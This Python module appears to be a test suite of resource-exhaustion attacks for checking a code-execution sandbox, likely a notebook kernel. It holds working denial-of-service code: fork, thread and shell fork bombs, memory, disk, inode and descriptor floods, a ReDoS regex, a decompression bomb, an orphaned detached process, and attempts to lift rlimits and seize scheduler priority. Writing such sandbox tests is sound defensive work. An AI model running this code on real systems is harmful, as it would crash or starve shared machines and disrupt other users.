"""Time, memory, processes, disk and output without bound."""

from __future__ import annotations

from attacks.kinds import code
from attacks.tools import MARK, libc, os, re, resource, signal, subprocess, sys, threading, time


@code("Loops for ever.", keeps=True)
def endless_loop() -> None:
    while True:
        pass


@code("Loops for ever and is deaf to interrupts.")
def endless_loop_deaf() -> None:
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:
        pass


@code("Sleeps for ever and swallows every interrupt.")
def endless_sleep_that_catches_all() -> None:
    while True:
        try:
            time.sleep(1000)
        except BaseException:
            continue


@code("Stops its own process, so that no interrupt can be answered.")
def stops_itself() -> None:
    os.kill(os.getpid(), signal.SIGSTOP)


@code("A regular expression that needs longer than the universe has.")
def endless_regular_expression() -> None:
    re.match(r"(a+)+$", "a" * 60 + "b")


@code("A power that no machine can finish, in one step of the interpreter.")
def endless_power() -> None:
    print(len(str(9 ** (9**10))))


@code("Calls itself a billion times deep.")
def endless_recursion() -> None:
    sys.setrecursionlimit(10**9)

    def deeper(level: int) -> int:
        return deeper(level + 1) + 1

    deeper(0)


@code("Fills the memory with one process.")
def memory_of_one_process() -> None:
    held = []
    while True:
        held.append(bytearray(64 << 20))


@code("Fills the memory with many processes, each below the limit of one.")
def memory_of_many_processes() -> None:
    for _ in range(10):
        if os.fork() == 0:
            held = bytearray(os.urandom(1 << 20) * 150)
            time.sleep(60)
            os._exit(len(held) % 2)
    time.sleep(30)


@code("Fills the memory with files that lie in memory.")
def memory_in_shared_memory() -> None:
    for place in ("/dev/shm", "/run/shm", "/run", "/learner", "/tmp"):
        try:
            with open(f"{place}/{MARK}-shm", "wb") as file:
                for _ in range(2000):
                    file.write(b"x" * (1 << 20))
        except OSError as refusal:
            print(place, refusal)


@code("Fills the memory with a file that has no name.")
def memory_without_a_name() -> None:
    descriptor = os.memfd_create("x")
    while True:
        os.write(descriptor, b"x" * (1 << 20))


@code("Starts copies of itself until nothing moves.")
def fork_bomb() -> None:
    while True:
        try:
            os.fork()
        except OSError:
            continue


@code("Starts threads until nothing moves.")
def thread_bomb() -> None:
    while True:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()


@code("Starts shells that start shells.")
def shell_bomb() -> None:
    subprocess.run("b() { b | b & }; b; sleep 30", shell=True, check=False)


@code("Leaves a process behind, detached twice, that writes for ever.")
def process_left_behind() -> None:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            signal.signal(signal.SIGHUP, signal.SIG_IGN)
            for number in range(10**9):
                with open(f"/tmp/{MARK}-left", "a") as file:
                    file.write(str(number))
                time.sleep(0.1)
        os._exit(0)


@code("Runs a thread that no end of the program waits for.")
def thread_without_end() -> None:
    def loop() -> None:
        while True:
            time.sleep(0.001)

    for _ in range(4):
        threading.Thread(target=loop, daemon=False).start()


@code("Leaves a handler that never returns for the end of the kernel.")
def endless_farewell() -> None:
    import atexit

    atexit.register(lambda: time.sleep(10**6))
    signal.signal(signal.SIGTERM, signal.SIG_IGN)


@code("Fills the disk.")
def full_disk() -> None:
    for number in range(10_000):
        with open(f"{MARK}-{number}", "wb") as file:
            file.write(b"x" * (8 << 20))


@code("Makes files until the disk has no names left.")
def full_of_names() -> None:
    for number in range(300_000):
        os.close(os.open(f"{MARK}-{number}", os.O_CREAT))


@code("Makes a file of a terabyte with nothing in it.")
def sparse_file() -> None:
    with open(f"{MARK}-sparse", "wb") as file:
        file.truncate(1 << 40)


@code("Makes folders in folders until no path is long enough.")
def bottomless_folder() -> None:
    for _ in range(3000):
        os.mkdir(MARK)
        os.chdir(MARK)


@code("Opens files until no descriptor is left.")
def all_descriptors() -> None:
    held = []
    while True:
        held.append(os.open("/dev/null", os.O_RDONLY))


@code("Takes off its own limits.")
def limits_taken_off() -> None:
    for name in ("RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_NPROC", "RLIMIT_FSIZE", "RLIMIT_NOFILE"):
        kind = getattr(resource, name)
        soft, hard = resource.getrlimit(kind)
        try:
            resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            if hard != resource.RLIM_INFINITY:
                print("REACHED", name)
        except (ValueError, OSError) as refusal:
            print(name, soft, refusal)


@code("Takes the highest priority and one processor for itself.")
def first_in_the_queue() -> None:
    try:
        os.nice(-20)
        print("REACHED a higher priority")
    except OSError as refusal:
        print(refusal)
    libc.sched_setscheduler(0, 1, b"\x01\x00\x00\x00")


@code("Prints 100 MB at once.")
def one_print_of_100_mb() -> None:
    print("x" * 100_000_000)


@code("Prints for ever, as fast as it can.")
def flood_of_prints() -> None:
    while True:
        print("x" * 10_000, flush=True)


@code("Prints a drop at a time, for ever.")
def drip_of_prints() -> None:
    while True:
        print(".", end="", flush=True)
        time.sleep(0.02)


@code("Floods the screen with colours and moves of the cursor.")
def flood_of_escapes() -> None:
    while True:
        print("\x1b[31m\x1b[2J\x1b[1000A\x1b]0;title\x07" * 500, flush=True)


@code("Floods with rich outputs.")
def flood_of_displays() -> None:
    from IPython.display import HTML, display

    while True:
        display(HTML("<b>" * 20_000))


@code("Rewrites one output for ever.")
def flood_of_updates() -> None:
    from IPython.display import display

    shown = display("a", display_id="one")
    while True:
        shown.update("x" * 50_000)


@code("Fails with a message of 50 MB.")
def error_of_50_mb() -> None:
    raise ValueError("x" * 50_000_000)


@code("Warns of a million things.")
def flood_of_warnings() -> None:
    import warnings

    for number in range(1_000_000):
        warnings.warn(f"{number} " + "x" * 1000, stacklevel=1)


@code("Unpacks a small text into gigabytes.")
def unpacking_bomb() -> None:
    import zlib

    packer = zlib.compressobj(9)
    small = b"".join(packer.compress(b"\0" * (1 << 24)) for _ in range(128)) + packer.flush()
    print(len(zlib.decompress(small)))


@code("Asks a question that nobody answers.")
def asks_a_question() -> None:
    input("your name? ")
